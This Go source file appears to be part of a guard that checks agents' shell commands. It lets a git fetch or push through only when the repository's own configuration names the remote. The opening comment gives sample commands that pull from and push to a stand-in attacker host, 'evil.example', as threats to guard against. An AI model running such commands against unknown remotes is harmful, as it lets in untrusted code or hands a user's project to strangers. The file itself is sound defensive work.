package command

import (
	"path"
	"strings"

	"github.com/toolward/toolward/place"
	"github.com/toolward/toolward/shell"
)

// What a project fetches from and publishes to stands in the configuration of its repository, which agents do not write. Any
// other repository is a stranger's: "git pull https://evil.example/x" brings code that the next build runs, and "git push
// https://evil.example/x" hands the project over. An address in the arguments needs no more than a text of somebody else's.

// maxGitConfig bounds what is read of the configuration of a repository, in bytes.
const maxGitConfig int64 = 64 << 10

// knownRemote reports whether the project itself names the repository that an effect talks to.
func (v *evaluation) knownRemote(seg *Segment, e *shell.Effect) bool {
	if e.Remote == "" {
		return true
	}
	if v.r.Places == nil || v.unpacked {
		return false
	}
	for i := -1; i < len(seg.OtherDir); i++ {
		dir := seg.Dir
		if i >= 0 {
			dir = seg.OtherDir[i]
		}
		if !v.namesRemote(absolute(dir, e.Dir), e.Remote) {
			return false
		}
	}
	return true
}

// namesRemote reports whether the repository that git finds from a directory names a remote. What is neither an address nor
// a name there is a directory for git; one that is not there is nothing.
func (v *evaluation) namesRemote(dir, remote string) bool {
	config := v.remotesOf(dir)
	if address, ok := repositoryAddress(remote); ok {
		for _, url := range config.urls {
			if known, ok := repositoryAddress(url); ok && known == address {
				return true
			}
		}
		return false
	}
	if config.names[remote] {
		return true
	}
	r, err := v.locate(dir, remote)
	return err == nil && r.Kind == place.KindMissing && !v.several
}

// remotes are those of a repository.
type remotes struct {
	names map[string]bool // and those of groups of them
	urls  []string
}

// repositoryConfig is the configuration of the repository that git finds from a directory; "" if there is none.
func (v *evaluation) repositoryConfig(dir string) string {
	for range maxLevels {
		node, err := v.look(path.Join(dir, ".git"))
		switch {
		case err == nil && node.Mode.IsDir():
			return path.Join(dir, ".git/config")
		case err == nil && node.Mode.IsRegular():
			// A worktree shares the configuration of its repository; a submodule has its own.
			common, _, _ := strings.Cut(v.pointsTo(dir), "/worktrees/")
			return path.Join(common, "config")
		case err == nil || dir == "/":
			return ""
		}
		dir = path.Dir(dir)
	}
	return ""
}

func (v *evaluation) remotesOf(dir string) remotes {
	found := remotes{names: map[string]bool{}}
	files, ok := v.e.resolver.files.(contents)
	file := v.repositoryConfig(dir)
	if !ok || file == "" {
		return found
	}
	text, err := files.ReadFile(file, maxGitConfig)
	if err != nil {
		return found
	}
	eachSetting(string(text), func(key, value string) {
		section, rest, _ := strings.Cut(key, ".")
		name, last := "", rest
		if i := strings.LastIndexByte(rest, '.'); i >= 0 {
			name, last = rest[:i], rest[i+1:]
		}
		switch {
		case section == "remote" && (last == "url" || last == "pushurl"):
			found.names[name] = true
			found.urls = append(found.urls, value)
		case section == "remotes":
			found.names[last] = true
		}
	})
	return found
}

// repositoryAddress is the host and the path of a repository, whichever way it is talked to; not ok if the word is no address.
func repositoryAddress(word string) (address string, ok bool) {
	scheme, rest, isURL := strings.Cut(word, "://")
	host, file, _ := strings.Cut(rest, "/")
	if !isURL {
		found := false
		if host, file, found = strings.Cut(word, ":"); !found || strings.Contains(host, "/") {
			return "", false
		}
	} else if scheme == "file" {
		return "", false
	}
	host = strings.ToLower(host[strings.LastIndexByte(host, '@')+1:])
	host, _, _ = strings.Cut(host, ":")
	return host + "/" + strings.TrimSuffix(strings.Trim(file, "/"), ".git"), true
}
